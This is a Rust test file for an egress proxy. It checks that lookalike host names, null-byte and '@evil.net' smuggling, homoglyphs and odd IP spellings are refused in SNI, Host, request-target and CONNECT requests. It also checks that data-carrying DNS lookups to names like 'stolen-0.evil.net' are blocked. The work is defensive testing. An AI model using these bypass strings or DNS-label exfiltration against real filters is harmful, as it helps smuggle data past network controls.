//! Names that are nearly an allowed one, addresses in any spelling, and data in labels, by every way in which a program
//! names a host.

use std::io;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use egress::name::HostName;
use egress::resolve::{Resolver, Resolving};
use egress::synthetic::Range;
use hickory_proto::op::{Message, Query, ResponseCode};
use hickory_proto::rr::{Name, RecordType};
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpStream, UdpSocket};

use crate::alone::alone;
use crate::client_hello::hello;
use crate::origins::Origin;
use crate::world::{Ending, Plan, World, ending, within};

/// What is allowed, and reached.
const ALLOWED: &str = "api.example.com";
const OK: &str = "HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok";

/// What somebody may send instead, hoping that one reader takes it for the allowed name and another does not.
const TRICKS: [&str; 28] = [
    "api.example.com.evil.net",
    "evilapi.example.com",
    "xapi.example.com",
    "example.com",
    "api.example.co",
    "a.api.example.com",
    "evil.net\0.api.example.com",
    "api.example.com\0.evil.net",
    "api.example.com\0",
    "user@api.example.com",
    "api.example.com@evil.net",
    "api.example.com:443@evil.net",
    "api.example.com%2eevil.net",
    "api.example.com%00.evil.net",
    "api.example.com\t.evil.net",
    "api.example.com..",
    ".api.example.com",
    // A Cyrillic letter, as its A-label and as it is; a full-width one.
    "xn--pi-6kc.example.com",
    "\u{430}pi.example.com",
    "\u{ff41}pi.example.com",
    "127.0.0.1",
    "2130706433",
    "0177.0.0.1",
    "0x7f.1",
    "\u{ff11}\u{ff12}\u{ff17}.0.0.1",
    "[::1]",
    "[fe80::1%25eth0]",
    "fe80::1%eth0",
];

/// What was sent where.
struct Said {
    way: &'static str,
    bytes: Vec<u8>,
    to: SocketAddr,
}

/// Every way to say `name` on a connection that is made to the allowed host, and at the explicit proxy.
async fn ways(world: &World, name: &str) -> Vec<Said> {
    let proxy = SocketAddr::new(Range::V4.proxy().v4.into(), egress::core::PROXY_PORT);
    let (http, tls) = (world.address(ALLOWED, 80).await, world.address(ALLOWED, 443).await);
    let said = |way, text: String, to| Said { way, bytes: text.into_bytes(), to };
    vec![
        Said { way: "SNI", bytes: hello(Some(name), &[]), to: tls },
        said("Host", format!("GET / HTTP/1.1\r\nHost: {name}\r\n\r\n"), http),
        said("target", format!("GET http://{name}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"), http),
        said("CONNECT", format!("CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n"), proxy),
        said("target at the proxy", format!("GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n"), proxy),
        said("Host at the proxy", format!("GET http://{ALLOWED}/ HTTP/1.1\r\nHost: {name}\r\n\r\n"), proxy),
    ]
}

async fn world(origin: &Origin) -> World {
    let mut plan = Plan::new(&[ALLOWED]).proxy();
    // Wherever a name would lead, it would lead to the origin: whatever is let through arrives.
    for name in TRICKS.into_iter().chain([ALLOWED]) {
        if HostName::parse(name).is_ok() {
            plan = plan.pin(name, origin.address);
        }
    }
    plan.start().await
}

alone! {
    async fn what_is_nearly_the_allowed_name_is_refused_by_every_way_in() {
        let origin = Origin::http(OK).await;
        let world = world(&origin).await;
        for name in TRICKS {
            for Said { way, bytes, to } in ways(&world, name).await {
                let before = world.refusals().len();
                let mut stream = TcpStream::connect(to).await.unwrap();
                stream.write_all(&bytes).await.unwrap();
                match ending(&mut stream).await {
                    Ending::Reset => assert_eq!(way, "SNI", "{name:?}"),
                    Ending::Closed(answer) => {
                        let answer = String::from_utf8_lossy(&answer).into_owned();
                        assert!(answer.starts_with("HTTP/1.1 4") && answer.contains("FH-EGRESS-"), "{way} {name:?}: {answer}");
                    }
                }
                let told = world.refusals().len() > before || world.entries().iter().any(|entry| entry.count > 1);
                assert!(told, "{way} {name:?}");
            }
        }
        assert_eq!(origin.connections(), 0);
    }
}

#[cfg(feature = "guard-off")]
alone! {
    async fn control_without_the_guards_such_names_arrive() {
        // What no reader takes for a name at all needs no guard of ours: the parser below refuses it too.
        let mut arrived = std::collections::BTreeMap::<&str, usize>::new();
        for name in TRICKS {
            let _without = egress::guard::without(&["host-rules", "literals", "sni", "tls", "http-head", "http-host"]);
            let origin = Origin::http(OK).await;
            let world = world(&origin).await;
            for Said { way, bytes, to } in ways(&world, name).await {
                let before = origin.connections();
                let mut stream = TcpStream::connect(to).await.unwrap();
                stream.write_all(&bytes).await.unwrap();
                if way == "CONNECT" {
                    drop(tokio::time::timeout(std::time::Duration::from_millis(200), crate::origins::answer(&mut stream)).await);
                    drop(stream.write_all(&hello(Some(name), &[])).await);
                }
                let came = async {
                    while origin.connections() == before {
                        tokio::time::sleep(std::time::Duration::from_millis(2)).await;
                    }
                };
                if tokio::time::timeout(std::time::Duration::from_millis(100), came).await.is_ok() {
                    *arrived.entry(way).or_default() += 1;
                }
            }
            world.egress.end().await;
        }
        println!("{arrived:?}");
        for (way, least) in [("SNI", 28), ("Host", 15), ("CONNECT", 6), ("target at the proxy", 6)] {
            assert!(arrived.get(way).is_some_and(|count| *count >= least), "{way}: {arrived:?}");
        }
    }
}

/// A resolver that remembers what it was asked.
#[derive(Debug, Default)]
struct Asked(Mutex<Vec<String>>);

impl Resolver for Asked {
    fn resolve<'a>(&'a self, name: &'a HostName) -> Resolving<'a> {
        self.0.lock().unwrap().push(name.to_string());
        Box::pin(std::future::ready(Err(io::ErrorKind::NotFound.into())))
    }
}

/// How a question for an address is answered.
async fn code(name: &str) -> ResponseCode {
    let socket = UdpSocket::bind("0.0.0.0:0").await.unwrap();
    socket.connect(SocketAddr::new(Range::V4.name_server().v4.into(), 53)).await.unwrap();
    let mut question = Message::query();
    question.add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
    socket.send(&question.to_vec().unwrap()).await.unwrap();
    let mut bytes = [0; 1500];
    let length = within(socket.recv(&mut bytes)).await.unwrap();
    Message::from_vec(&bytes[..length]).unwrap().metadata.response_code
}

/// Data in labels, in a look-up and in the question what would happen to a request.
async fn carry_data(asked: &Arc<Asked>) -> usize {
    let mut plan = Plan::new(&[ALLOWED]);
    plan.settings.resolver = asked.clone();
    let world = plan.start().await;
    let mut answered = 0;
    for n in 0..5 {
        let name = format!("stolen-{n}.evil.net");
        answered += usize::from(code(&name).await != ResponseCode::NXDomain);
        world.egress.check(&format!("https://{name}/")).await.unwrap();
    }
    // An allowed name is asked of nobody either before somebody connects.
    assert_eq!(code(ALLOWED).await, ResponseCode::NoError);
    answered
}

alone! {
    async fn no_look_up_carries_data_to_a_name_server() {
        let asked = Arc::new(Asked::default());
        assert_eq!(carry_data(&asked).await, 0);
        assert_eq!(*asked.0.lock().unwrap(), Vec::<String>::new());
    }
}

#[cfg(feature = "guard-off")]
alone! {
    async fn control_without_the_rules_data_reaches_a_name_server() {
        let _without = egress::guard::without(&["host-rules"]);
        let asked = Arc::new(Asked::default());
        assert_eq!(carry_data(&asked).await, 5);
        assert_eq!(asked.0.lock().unwrap().len(), 5);
    }
}
